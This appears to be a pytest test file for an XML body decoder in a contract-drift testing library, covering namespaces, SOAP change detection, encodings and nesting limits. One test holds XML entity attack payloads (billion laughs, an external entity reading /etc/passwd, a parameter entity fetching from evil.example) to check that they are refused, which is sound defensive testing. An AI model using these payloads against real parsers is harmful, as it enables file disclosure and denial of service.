from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_integration_contracts.drift.compare import diff, widens
from pytest_integration_contracts.drift.learning import adopt
from pytest_integration_contracts.errors import BodyError
from pytest_integration_contracts.manifest.manifest import Limits
from pytest_integration_contracts.model import MAX_DEPTH, NO_BODY
from pytest_integration_contracts.shapes.infer import infer
from pytest_integration_contracts.shapes.settle import settle
from pytest_integration_contracts.shapes.shape import merge
from pytest_integration_contracts.traffic.bodies import Body, decode
from pytest_integration_contracts.traffic.xml import label_of
from strategies import quickly

SOAP = """<?xml version="1.0"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:c="urn:crm:v1">
  <soap:Body>
    <c:GetCustomerResponse>
      <c:customer id="7"><c:email>jane@crm.example</c:email><c:total currency="EUR">5.00</c:total></c:customer>
    </c:GetCustomerResponse>
  </soap:Body>
</soap:Envelope>
"""
ANSWER = "$.Envelope.Body[*]['crm:GetCustomerResponse'][*]"
CUSTOMER = f"{ANSWER}.customer[*]"


def read(text: str | bytes, content_type: str = "text/xml") -> Any:
    raw = text.encode() if isinstance(text, str) else text
    return decode(raw, {"content-type": content_type}).value


def changes(before: str, after: str) -> list[tuple[str, str, str]]:
    return [(each.severity.value, each.rule, each.path) for each in diff([read(before)], [read(after)])]


def items(number: int) -> str:
    inside = "".join(f'<item n="{each}"><sku>A-{each}</sku></item>' for each in range(number))
    return f'<order total="{number}">{inside}</order>'


def test_an_element_has_its_attributes_its_children_in_lists_and_its_text() -> None:
    assert read('<order id="7"><item n="1">A</item><item n="2"/><note> two\n words </note></order>') == {
        "order": {
            "@id": "7",
            "item": [{"@n": "1", "#text": "A"}, {"@n": "2", "#text": ""}],
            "note": [{"#text": "two\n words"}],
        }
    }


def test_names_are_local_and_say_where_a_namespace_begins() -> None:
    assert read(SOAP) == {
        "Envelope": {
            "@xmlns=http://schemas.xmlsoap.org/soap/envelope/": True,
            "Body": [
                {
                    "crm:GetCustomerResponse": [
                        {
                            "@xmlns=urn:crm:v1": True,
                            "customer": [
                                {
                                    "@id": "7",
                                    "email": [{"#text": "jane@crm.example"}],
                                    "total": [{"@currency": "EUR", "#text": "5.00"}],
                                }
                            ],
                        }
                    ]
                }
            ],
        }
    }


def test_two_elements_of_one_name_in_two_namespaces_are_two() -> None:
    feed = '<channel xmlns:a="http://www.w3.org/2005/Atom"><link>https://x.example</link><a:link href="y"/></channel>'
    assert set(read(feed)["channel"]) == {"link", "Atom:link"}


@pytest.mark.parametrize(
    ("namespace", "label"),
    [
        ("http://www.w3.org/2005/Atom", "Atom"),
        ("http://s3.amazonaws.com/doc/2006-03-01/", "doc"),
        ("http://purl.org/dc/elements/1.1/", "elements"),
        ("http://a9.com/-/spec/opensearch/1.1/", "opensearch"),
        ("urn:crm:v1", "crm"),
        ("urn:crm-v2.1", "crm"),
        ("http://www.w3.org/2003/05/soap-envelope", "soap-envelope"),
        ("", "no-namespace"),
        ("1", "no-namespace"),
    ],
)
def test_a_namespace_goes_by_its_last_word_that_is_no_version(namespace: str, label: str) -> None:
    assert label_of(namespace) == label


@pytest.mark.parametrize(
    "after",
    [
        SOAP.replace("c:", "ns2:").replace("xmlns:c=", "xmlns:ns2="),
        SOAP.replace("soap:", "").replace("xmlns:soap=", "xmlns="),
        SOAP.replace("\n", "").replace("  ", ""),
        SOAP.replace("5.00", "<![CDATA[5.00]]>"),
        SOAP.replace("5.00", "5<!-- and -->.00<?print x?>"),
        SOAP.replace('<c:total currency="EUR">5.00</c:total>', '<c:total currency="EUR">5.00</c:total>' * 3),
    ],
    ids=["prefix", "default", "blanks", "CDATA", "comments", "three of them"],
)
def test_another_way_to_write_the_same_is_no_change(after: str) -> None:
    assert after != SOAP
    assert changes(SOAP, after) == []


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("<c:email>jane@crm.example</c:email>", "", ("breaking", "property.removed", f"{CUSTOMER}.email")),
        ("c:email", "c:mail", ("breaking", "property.renamed", f"{CUSTOMER}.email")),
        (' id="7"', "", ("breaking", "property.removed", f"{CUSTOMER}['@id']")),
        ("5.00", "five", ("warning", "format.lost", f"{CUSTOMER}.total[*]['#text']")),
        ("5.00", "", ("warning", "value.now-empty", f"{CUSTOMER}.total[*]['#text']")),
        ("5.00", "<c:net>5.00</c:net>", ("breaking", "property.removed", f"{CUSTOMER}.total[*]['#text']")),
        ("urn:crm:v1", "urn:crm:v2", ("breaking", "property.renamed", f"{ANSWER}['@xmlns=urn:crm:v1']")),
        ('id="7"', 'id="7" vip="1"', ("compatible", "property.added", f"{CUSTOMER}['@vip']")),
        ("<c:email>", '<c:email kind="work">', ("compatible", "property.added", f"{CUSTOMER}.email[*]['@kind']")),
        ("<c:email>", "<c:name>Jane</c:name><c:email>", ("compatible", "property.added", f"{CUSTOMER}.name")),
    ],
)
def test_what_changed_is_told_where_it_is(old: str, new: str, expected: tuple[str, str, str]) -> None:
    assert old in SOAP
    assert expected in changes(SOAP, SOAP.replace(old, new))


@pytest.mark.parametrize(("before", "after"), [(1, 3), (3, 1), (2, 5)])
def test_one_today_and_three_tomorrow_is_no_change(before: int, after: int) -> None:
    assert changes(items(before), items(after)) == []


def test_a_list_that_an_answer_does_not_write_is_an_empty_one() -> None:
    assert ("compatible", "array.now-empty", "$.order.item") in changes(items(3), items(0))
    assert all(severity == "compatible" for severity, *_ in changes(items(3), items(0)))
    assert ("breaking", "property.removed", "$.order.item") in changes(items(1), items(0))


def test_what_is_known_of_a_list_outlives_an_empty_one() -> None:
    known = settle(infer([read(items(3))]))
    learned = adopt(known, infer([read(items(0))]))
    item = learned.fields["order"].shape.fields["item"]
    assert item.required
    assert item.shape.empty.values == 1
    assert item.shape.items is not None
    assert item.shape.items.fields.keys() == {"@n", "sku"}
    assert adopt(learned, infer([read(items(2))])).fields["order"].shape.fields["item"].required


def test_a_list_that_was_empty_may_have_items_again() -> None:
    assert [rule for _, rule, _ in changes(items(0), items(3))] == ["property.added"]
    known = settle(infer([read(items(3))]))
    emptied = adopt(known, infer([read(items(0))]))
    assert [each.severity.value for each in widens(emptied, infer([read(items(2))]))] == []


def test_json_that_has_lists_is_not_read_so() -> None:
    before, after = {"items": [{"sku": "A"}, {"sku": "B"}], "n": 2}, {"n": 0}
    assert [(each.rule, each.path) for each in diff([before], [after])] == [("property.removed", "$.items")]


def test_text_is_read_by_the_name_of_its_element() -> None:
    many = [
        read(f"<o><status>{'open' if at % 2 else 'paid'}</status><name>Jane</name></o>", "application/xml")
        for at in range(25)
    ]
    shape = settle(infer(many)).fields["o"].shape
    words = {}
    for name in ("status", "name"):
        items_of = shape.fields[name].shape.items
        assert items_of is not None
        texts = items_of.fields["#text"].shape.texts
        words[name] = texts.words if texts else None
    assert words == {"status": {"open", "paid"}, "name": None}
    told = diff(many, [read("<o><status>lost</status><name>Joe</name></o>")])
    assert [(each.rule, each.path) for each in told] == [("vocabulary.value-added", "$.o.status[*]['#text']")]


def test_nil_is_null_and_a_type_is_a_tag() -> None:
    document = """<p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:b="urn:pay"
      xsi:schemaLocation="urn:pay pay.xsd">
      <by xsi:type="b:Card"><last4>4242</last4></by><by xsi:type="b:Bank" type="x"><iban>DE00</iban></by>
      <at xsi:nil="true"/><to xsi:nil="1" id="3"/><no xsi:nil="false"/></p>"""
    assert read(document) == {
        "p": {
            "by": [
                {"@type": "Card", "last4": [{"#text": "4242"}]},
                {"@xsi:type": "Bank", "@type": "x", "iban": [{"#text": "DE00"}]},
            ],
            "at": [None],
            "to": [{"@id": "3", "#text": None}],
            "no": [{"#text": ""}],
        }
    }


def test_variants_are_told_apart_by_their_type() -> None:
    def paid(*kinds: str) -> str:
        fields = {"Card": "<last4>4242</last4><brand>visa</brand>", "Bank": "<iban>DE00</iban><bic>X</bic>"}
        inside = "".join(f'<by i:type="{kind}">{fields[kind]}</by>' for kind in kinds)
        return f'<p xmlns:i="http://www.w3.org/2001/XMLSchema-instance">{inside}</p>'

    both = paid("Card", "Bank")
    assert changes(both, paid("Bank", "Card", "Card")) == []
    assert changes(both, paid("Bank")) == [("compatible", "variant.removed", "$.p.by[*]")]
    told = diff([read(both)], [read(both.replace("<bic>X</bic>", ""))])
    assert [(each.rule, each.path, each.variant) for each in told] == [
        ("property.removed", "$.p.by[*].bic", "@type=Bank")
    ]


def test_text_between_children_is_text_and_a_page_inside_is_prose() -> None:
    assert read("<e>Not found: <code>404</code>.</e>") == {"e": {"code": [{"#text": "404"}], "#text": "Not found: ."}}
    atom = (
        '<entry xmlns="http://www.w3.org/2005/Atom"><content type="xhtml">'
        '<div xmlns="http://www.w3.org/1999/xhtml"><p>Hi <b>you</b></p></div></content></entry>'
    )
    assert read(atom)["entry"]["content"] == [{"@type": "xhtml", "#text": "Hi you"}]


@pytest.mark.parametrize(
    ("raw", "content_type"),
    [
        ("<a>Zoë</a>".encode(), "text/xml"),
        ("<a>Zoë</a>".encode("utf-8-sig"), "text/xml; charset=iso-8859-1"),
        ("<a>Zoë</a>".encode("utf-16"), "text/xml"),
        ('<?xml version="1.0" encoding="iso-8859-1"?><a>Zoë</a>'.encode("latin-1"), "text/xml"),
        ('<?xml version="1.0" encoding="windows-1252"?><a>Zoë</a>'.encode("cp1252"), "text/xml; charset=utf-8"),
        ("<a>Zoë</a>".encode("latin-1"), 'text/xml; charset="ISO-8859-1"'),
    ],
    ids=["UTF-8", "mark", "UTF-16", "declared", "declared otherwise", "claimed"],
)
def test_a_document_is_read_in_its_encoding(raw: bytes, content_type: str) -> None:
    assert read(raw, content_type) == {"a": {"#text": "Zoë"}}


@pytest.mark.parametrize("media", ["text/xml", "application/xml", "application/soap+xml", "application/rss+xml"])
@pytest.mark.parametrize(
    "text",
    ["<a>", "<a></b>", "plain", "<a>Zoë</a>", "<a>&nbsp;</a>", "<html><p>Log in</p></html>", "<x:a/>", "<a/><b/>"],
)
def test_what_claims_to_be_xml_and_is_not_is_unreadable(media: str, text: str) -> None:
    assert decode(text.encode("latin-1"), {"content-type": media}) == Body(f"unreadable {media}")


@pytest.mark.parametrize("media", ["text/plain", "application/octet-stream", "text/html", "binary/octet-stream"])
def test_xml_is_known_by_its_content(media: str) -> None:
    document = b'<?xml version="1.0"?>\n<order id="7"/>'
    assert decode(document, {"content-type": media}) == Body(media, {"order": {"@id": "7", "#text": ""}})


@pytest.mark.parametrize(
    ("text", "media"),
    [
        ("<!DOCTYPE html><html><body>Log in</body></html>", "text/html"),
        (
            '<?xml version="1.0"?><!DOCTYPE html PUBLIC "x" "y"><html xmlns="http://www.w3.org/1999/xhtml"/>',
            "text/html",
        ),
        ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', "application/xhtml+xml"),
        ("<order/>", "text/html"),
        ("<p>Not found</p>", "text/plain"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>', "image/svg+xml"),
        ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
        ("<3 you", "text/plain"),
        ("<order", "text/plain"),
    ],
)
def test_pages_and_pictures_are_opaque(text: str, media: str) -> None:
    assert decode(text.encode(), {"content-type": media}) == Body(media, NO_BODY)


ENTITIES = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 12))


@pytest.mark.parametrize(
    "document",
    [
        f'<!DOCTYPE a [<!ENTITY e0 "ha">{ENTITIES}]><a>&e11;</a>',
        f'<!DOCTYPE a [<!ENTITY e "{"x" * 10_000}">]><a>{"&e;" * 10_000}</a>',
        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        '<!DOCTYPE a [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]><a/>',
        "<!DOCTYPE a []><a/>",
    ],
    ids=["billion laughs", "quadratic", "external", "parameter", "empty"],
)
@pytest.mark.parametrize("media", ["text/xml", "text/plain"])
def test_a_document_that_declares_entities_is_refused(document: str, media: str) -> None:
    with pytest.raises(BodyError) as caught:
        read(f'<?xml version="1.0"?>{document}', media)
    assert str(caught.value) == (
        "an XML body declares entities of its own (`<!DOCTYPE ... [`), which are never expanded;"
        " ask the upstream for one without a DTD"
    )


def test_a_dtd_that_is_named_is_not_read() -> None:
    named = '<!DOCTYPE rss PUBLIC "-//X//DTD RSS 0.91//EN" "http://127.0.0.1:1/rss.dtd"><rss version="0.91"/>'
    assert read(named) == {"rss": {"@version": "0.91", "#text": ""}}


def test_a_document_is_as_deep_as_the_engine_can_stand_and_no_deeper() -> None:
    deepest = MAX_DEPTH // 2
    assert infer([read("<a>" * deepest + "x" + "</a>" * deepest)]).known
    for depth in (deepest + 1, 100_000):
        with pytest.raises(BodyError, match="nested deeper than 64 elements; check a part of it instead"):
            read("<a>" * depth + "</a>" * depth)
    with pytest.raises(BodyError, match=r"nested deeper than 5 elements; raise `depth` under `\[defaults.limits\]`"):
        decode(b"<a>" * 6, {"content-type": "text/xml"}, Limits(depth=10))


NAMES = st.sampled_from(["a", "b", "item", "id"])
TEXTS = st.sampled_from(["", "5", "x", "2024-01-30"])
DOCUMENTS = st.recursive(
    st.builds("<{0}>{1}</{0}>".format, NAMES, TEXTS),
    lambda inner: st.builds(
        lambda name, attribute, children: f"<{name}{attribute}>{''.join(children)}</{name}>",
        NAMES,
        st.sampled_from(["", ' id="1"', ' at="x"']),
        st.lists(inner, max_size=4),
    ),
    max_leaves=12,
)


@given(one=st.lists(DOCUMENTS, max_size=3), other=st.lists(DOCUMENTS, max_size=3))
@quickly
def test_the_order_of_documents_does_not_show(one: list[str], other: list[str]) -> None:
    mine, theirs = [read(each) for each in one], [read(each) for each in other]
    together = infer(mine + theirs)
    assert together == infer(theirs + mine) == merge(infer(mine), infer(theirs))


@given(DOCUMENTS)
@quickly
def test_learning_a_document_again_teaches_nothing(document: str) -> None:
    shape = settle(infer([read(document)]))
    assert shape.accepts(read(document))
    assert adopt(shape, infer([read(document)])) == shape
    assert changes(document, document) == []
